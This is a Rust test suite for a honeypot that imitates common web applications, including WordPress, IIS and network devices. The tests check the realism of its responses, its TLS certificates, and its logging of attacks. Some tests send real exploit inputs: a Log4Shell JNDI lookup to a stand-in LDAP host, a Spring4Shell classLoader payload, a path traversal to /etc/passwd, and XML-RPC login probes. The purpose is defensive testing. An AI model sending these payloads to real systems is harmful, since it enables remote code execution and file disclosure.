    assert!(get(decoy.plain, "/?author=1").contains(&format!("Location: http://www.test/author/{name}/")));
    assert!(
        post(decoy.plain, "/wp-login.php", &format!("log={name}&pwd=x"))
            .contains("The password you entered for the username")
    );
    assert!(get(decoy.plain, "/xmlrpc.php").contains("XML-RPC server accepts POST requests only."));
    assert!(
        post(
            decoy.plain,
            "/xmlrpc.php",
            "<methodCall><methodName>system.listMethods</methodName></methodCall>"
        )
        .contains("wp.getUsersBlogs")
    );
    let blogs = post(
        decoy.plain,
        "/xmlrpc.php",
        "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>bob</string></value></param><param><value><string>pw</string></value></param></params></methodCall>",
    );
    assert!(blogs.contains("Incorrect username or password."), "{blogs}");
    decoy.wait(
        "login",
        |report| matches!(&report.body, Body::AuthAttempt { credential, .. } if credential.username == "bob"),
    );
    assert!(get(decoy.plain, "/wp-admin/").contains("302 Found"));
    assert!(get(decoy.plain, "/no/such/page").starts_with("HTTP/1.1 404"));
    assert!(get(decoy.plain, "/.env").starts_with("HTTP/1.1 404"));
}

/// The marks by which decoys are told.
#[test]
fn the_tells_are_absent() {
    let everywhere = [
        "/.env",
        "/.git/config",
        "/phpmyadmin/",
        "/shell",
        "/backup.sql",
        "/admin.php",
        "/wp-login.php",
        "/actuator/env",
        "/solr/",
        "/HNAP1/",
    ];
    for app in [
        "wordpress",
        "phpmyadmin",
        "gitlab",
        "jenkins",
        "tomcat",
        "owa",
        "printer",
        "router",
        "apache_default",
        "nginx_default",
        "iis_default",
    ] {
        let (family, product) = match app {
            "owa" | "iis_default" => (OsFamily::Windows, ("iis", "10.0", "")),
            "printer" | "router" => (OsFamily::Embedded, ("lighttpd", "1.4.59", "")),
            "nginx_default" | "gitlab" => (OsFamily::Linux, ("nginx", "1.22.1", "")),
            _ => (OsFamily::Linux, ("apache", "2.4.62", "Debian")),
        };
        let decoy = decoy(family, 9, product, &[("fake_app", app)]);
        let mut found = 0;
        for path in everywhere {
            let answer = get(decoy.plain, path);
            found += usize::from(answer.starts_with("HTTP/1.1 200"));
            let (head, body) = answer.split_once("\r\n\r\n").unwrap();
            assert!(head.matches("\r\nServer: ").count() <= 1, "{app}{path}: {head}");
            assert!(!body.is_empty() || !answer.starts_with("HTTP/1.1 404"), "{app}{path}: an empty 404");
            if answer.starts_with("HTTP/1.1 404") {
                assert!(answer.len() >= 250 || body.len() >= 50, "{app}{path}: {answer}");
            }
            let lower = answer.to_lowercase();
            for word in [
                "werkzeug",
                "python",
                "golang",
                "hyper",
                "decnet",
                "decky",
                "honey",
                "145df9c4",
                "root:x:0:0",
            ] {
                assert!(!lower.contains(word), "{app}{path} says {word}: {answer}");
            }
        }
        assert!(found <= 2, "{app}: {found} classic paths are there at once");
        // Nothing is ever served from above the root.
        let (answer, _) = ask(
            decoy.plain,
            b"GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
            Duration::from_millis(300),
        );
        assert!(!String::from_utf8_lossy(&answer).contains("root:"));
        decoy.wait("exploit", |report| {
            matches!(&report.body, Body::ExploitAttempt { name, .. } if name == "CVE-2021-41773" || name == "path-traversal")
                || matches!(&report.body, Body::ScanProbe { .. })
        });
    }
}

#[test]
fn no_two_deckies_make_the_same_page() {
    let pages: Vec<(String, String)> = (10..14)
        .map(|seed| {
            let decoy = decoy(
                OsFamily::Linux,
                seed,
                ("apache", "2.4.62", "Debian"),
                &[("fake_app", "wordpress"), ("site_title", "Site")],
            );
            let body =
                |answer: String| answer.split_once("\r\n\r\n").map(|(_, body)| body.to_owned()).unwrap();
            (body(get(decoy.plain, "/")), get(decoy.plain, "/wp-json/wp/v2/users"))
        })
        .collect();
    for (at, one) in pages.iter().enumerate() {
        assert!(pages[at + 1..].iter().all(|other| other.0 != one.0));
    }
}

#[test]
fn persona_keys_reach_the_wire() {
    let decoy = decoy(
        OsFamily::Linux,
        15,
        ("apache", "2.4.62", "Debian"),
        &[
            ("server_header", "nginx/1.14.2"),
            ("response_code", "503"),
            ("extra_headers", "X-Backend: web-3 | X-Frame-Options: DENY"),
            ("custom_body", "<h1>Down</h1>"),
            ("tls", "off"),
        ],
    );
    assert!(decoy.tls.is_none(), "tls = off closes the port");
    let answer = get(decoy.plain, "/");
    assert!(answer.starts_with("HTTP/1.1 503 "), "{answer}");
    assert!(answer.contains("\r\nServer: nginx/1.14.2\r\n") && answer.contains("\r\nX-Backend: web-3\r\n"));
    assert!(answer.ends_with("\r\n\r\n<h1>Down</h1>"));
    let missing = get(decoy.plain, "/x");
    assert!(
        missing.starts_with("HTTP/1.1 404 ") && missing.contains("<hr><center>nginx/1.14.2</center>"),
        "{missing}"
    );
    let walled = self::decoy(
        OsFamily::Linux,
        16,
        ("nginx", "1.22.1", ""),
        &[("basic_realm", "Intranet"), ("vhosts", "www.test")],
    );
    assert!(get(walled.plain, "/").contains("WWW-Authenticate: Basic realm=\"Intranet\""));
}

#[test]
fn vhosts_show_the_site_and_others_the_server() {
    let decoy = decoy(
        OsFamily::Linux,
        17,
        ("apache", "2.4.62", "Debian"),
        &[("fake_app", "wordpress"), ("vhosts", "www.test")],
    );
    assert!(get(decoy.plain, "/").contains("WordPress"));
    let other = b"GET / HTTP/1.1\r\nHost: other\r\nConnection: close\r\n\r\n";
    let answer = String::from_utf8_lossy(&ask(decoy.plain, other, Duration::from_secs(2)).0).into_owned();
    assert!(answer.contains("Apache2 Debian Default Page"), "{answer}");
}

#[test]
fn attacks_are_events() {
    let decoy = decoy(OsFamily::Linux, 18, ("nginx", "1.22.1", ""), &[]);
    let _ = ask(decoy.plain, b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://198.51.100.9/a}\r\nConnection: close\r\n\r\n", Duration::from_secs(1));
    let report = decoy.wait(
        "exploit",
        |report| matches!(&report.body, Body::ExploitAttempt { name, .. } if name == "CVE-2021-44228"),
    );
    assert!(String::from_utf8_lossy(&report.raw.unwrap().0).contains("jndi"));
    // A body after an answer that did not wait for it is seen, too.
    let _ = ask(decoy.plain, b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nConnection: close\r\n\r\nclass.module.classLoader.resources.context=1", Duration::from_secs(1));
    decoy.wait(
        "exploit",
        |report| matches!(&report.body, Body::ExploitAttempt { name, .. } if name == "CVE-2022-22965"),
    );
    let request = decoy
        .wait("request", |report| matches!(&report.body, Body::Request { method, .. } if method == "POST"));
    let Body::Request { headers, version, status, .. } = request.body else { unreachable!() };
    assert_eq!(headers[0], ("Host".to_owned(), "a".to_owned()));
    assert_eq!((version.as_deref(), status.as_str()), (Some("HTTP/1.1"), "404"));
    let _ = ask(decoy.plain, b"SSH-2.0-x\r\n", Duration::from_secs(1));
    decoy
        .wait("probe", |report| matches!(&report.body, Body::ScanProbe { kind } if kind == "wrong_protocol"));
}

fn have(tool: &str, argument: &str) -> bool {
    Command::new(tool).arg(argument).stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok()
}

fn run(tool: &str, arguments: &[&str]) -> String {
    let output = Command::new(tool).args(arguments).stdin(Stdio::null()).output().unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
}

#[test]
fn curl_and_openssl_talk_to_it() {
    if !have("curl", "--version") {
        return skip("curl");
    }
    let decoy = decoy(OsFamily::Linux, 19, ("nginx", "1.22.1", ""), &[]);
    let plain = format!("http://{}/", decoy.plain);
    let secure = format!("https://{}/", decoy.tls.unwrap());
    for url in [&plain, &secure] {
        for arguments in [
            &["-ksi"][..],
            &["-ksi", "--compressed"],
            &["-ksi", "--http1.0"],
            &["-ksi", "-r", "0-14"],
            &["-ksi", "-I"],
        ] {
            let answer = run("curl", &[arguments, &[url.as_str()]].concat());
            assert!(answer.starts_with("HTTP/1.1 20"), "{arguments:?}: {answer}");
            if !arguments.contains(&"-I") {
                assert!(answer.contains("<!DOCTYPE html>"), "{arguments:?}: {answer}");
            }
        }
    }
    let report = decoy.wait("hello", |report| matches!(&report.body, Body::TlsHello { completed: true, .. }));
    let Body::TlsHello { ja3, ja4, alpn, versions, .. } = report.body else { unreachable!() };
    assert_eq!(ja3.len(), 32);
    assert!(ja4.starts_with("t13i"), "{ja4}");
    assert!(alpn.contains(&"http/1.1".to_owned()) && versions.contains(&"TLSv1.3".to_owned()));
    if !have("openssl", "version") {
        return skip("openssl");
    }
    let address = decoy.tls.unwrap().to_string();
    let shown = run("openssl", &["s_client", "-connect", &address, "-showcerts", "-alpn", "http/1.1"]);
    assert!(shown.contains("CN = SRV-TEST-19") && shown.contains("ALPN protocol: http/1.1"), "{shown}");
    assert!(shown.contains("self-signed certificate"), "{shown}");
    // What no server of today speaks is refused, and told all the same.
    let _ = run("openssl", &["s_client", "-connect", &address, "-tls1", "-cipher", "ALL:@SECLEVEL=0"]);
    let refused =
        decoy.wait("old hello", |report| matches!(&report.body, Body::TlsHello { completed: false, .. }));
    assert!(refused.raw.is_some());
}

#[test]
fn nmap_names_the_product() {
    if !have("nmap", "--version") {
        return skip("nmap");
    }
    for (family, product, expected) in [
        (OsFamily::Linux, ("nginx", "1.22.1", ""), "nginx 1.22.1"),
        (OsFamily::Linux, ("apache", "2.4.62", "Debian"), "Apache httpd 2.4.62 ((Debian))"),
        (OsFamily::Windows, ("iis", "10.0", ""), "Microsoft IIS httpd 10.0"),
    ] {
        let decoy = decoy(family, 20, product, &[]);
        let (plain, tls) = (decoy.plain.port(), decoy.tls.unwrap().port());
        let shown = run(
            "nmap",
            &[
                "-n",
                "-Pn",
                "-sT",
                "-sV",
                "--version-all",
                "-p",
                &format!("{plain},{tls}"),
                "--script",
                "http-title,http-server-header,http-headers,http-methods,+ssl-cert",
                "127.0.0.1",
            ],
        );
        // On a port that is not 443 nmap asks without TLS first, and takes Apache's and IIS's answer to that
        // as theirs; the certificate is asked for by force.
        assert!(shown.contains(expected), "{shown}");
        assert!(shown.contains("http-title:") && shown.contains("ssl-cert: Subject: commonName="), "{shown}");
        assert!(!shown.contains("service unrecognized"), "{shown}");
        eprintln!("{shown}");
    }
}

/// The certificate as openssl shows it, by a pipe of s_client into x509.
fn shown_certificate(address: SocketAddr) -> String {
    let client = run("openssl", &["s_client", "-connect", &address.to_string()]);
    let at = client.find("-----BEGIN CERTIFICATE-----").expect("a certificate");
    let end = client.find("-----END CERTIFICATE-----").expect("its end") + "-----END CERTIFICATE-----".len();
    let mut process = Command::new("openssl")
        .args(["x509", "-noout", "-text"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    process.stdin.take().unwrap().write_all(&client.as_bytes()[at..end]).unwrap();
    String::from_utf8_lossy(&process.wait_with_output().unwrap().stdout).into_owned()
}

#[test]
fn certificates_follow_the_system() {
    if !have("openssl", "version") {
        return skip("openssl");
    }
    let cases = [
        // ssl-cert: subject and issuer are the host, ten years, three extensions in this order.
        (
            OsFamily::Linux,
            ("apache", "2.4.62", "Debian"),
            &[
                "Issuer: CN = SRV-TEST-21",
                "Subject: CN = SRV-TEST-21",
                "CA:FALSE",
                "DNS:SRV-TEST-21",
                "X509v3 Subject Key Identifier",
            ][..],
        ),
        (
            OsFamily::Windows,
            ("iis", "10.0", ""),
            &[
                "Subject: CN = srv-test-21.corp.northwind-labs.net",
                "Key Encipherment, Data Encipherment",
                "DNS:srv-test-21.corp.northwind-labs.net",
                "TLS Web Server Authentication",
            ],
        ),
        (OsFamily::Cisco, ("cisco-ios", "-", ""), &["Serial Number: 1 (0x1)", "CA:TRUE"]),
    ];
    for (family, product, expected) in cases {
        let decoy = decoy(family, 21, product, &[]);
        let shown = shown_certificate(decoy.tls.unwrap());
        let mut rest = shown.as_str();
        for part in expected {
            let at =
                rest.find(part).unwrap_or_else(|| panic!("{part} is missing, or not in its place: {shown}"));
            rest = &rest[at + part.len()..];
        }
        assert!(
            shown.contains("Public-Key: (2048 bit)") && shown.contains("sha256WithRSAEncryption"),
            "{shown}"
        );
        assert!(shown.contains(" 2026 GMT"), "made after the installation, not today: {shown}");
        assert!(!shown.contains("Not Before: Nov 2"), "{shown}");
    }
}
